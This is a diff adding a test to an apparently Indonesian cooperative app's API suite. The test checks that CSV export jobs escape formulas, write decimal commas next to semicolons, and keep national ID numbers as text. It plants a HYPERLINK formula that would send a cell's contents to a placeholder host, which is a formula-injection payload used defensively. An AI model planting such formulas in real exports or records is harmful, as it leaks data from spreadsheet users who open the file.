@@ -148,4 +148,27 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
       expect(res.statusCode, JSON.stringify(body)).toBe(400);
     }
   });
+  it('neutralises formulas in CSV, writes decimal commas next to the semicolon, and keeps NIK as text', async () => {
+    const planted = '=HYPERLINK("http://contoh.invalid/?d="&A1;"Klik di sini")';
+    const made = await api.req({
+      method: 'POST', url: '/api/v1/concerns', cookie: koperasi,
+      body: { cooperativeId: DEWI_ID, kind: 'KELUHAN', topic: 'lainnya', description: planted, raisedBy: '@pengurus' },
+    });
+    expect(made.statusCode, made.body).toBe(201);
+    const c = await finished(admin, (await start(admin, { list: 'concerns', format: 'csv' })).json().id);
+    const text = (await api.req({ method: 'GET', url: `/api/v1/jobs/${c.id}/download`, cookie: admin })).body;
+    expect(text).not.toMatch(/(^|;|\r\n)"?=HYPERLINK/);
+    expect(text).toContain(`"'=HYPERLINK(""http://contoh.invalid/?d=""&A1;""Klik di sini"")"`);
+    expect(text).toContain(";'@pengurus;");
+
+    const dewi = (await api.req({ method: 'GET', url: `/api/v1/cooperatives/${DEWI_ID}`, cookie: admin })).json();
+    expect(dewi.latitude).not.toBe(Math.round(dewi.latitude));
+    const k = await finished(admin, (await start(admin, { list: 'cooperatives', format: 'csv', filters: { search: 'dewi rengganis' } })).json().id);
+    const lines = csvLines((await api.req({ method: 'GET', url: `/api/v1/jobs/${k.id}/download`, cookie: admin })).body);
+    const header = lines[0]!.split(';');
+    const row = lines[1]!.split(';');
+    expect(row).toHaveLength(header.length);
+    expect(row[header.indexOf('NIK')]).toBe(`"=""${dewi.nik}"""`);
+    expect(row[header.indexOf('Lintang')]).toBe(String(dewi.latitude).replace('.', ','));
+  });
 });
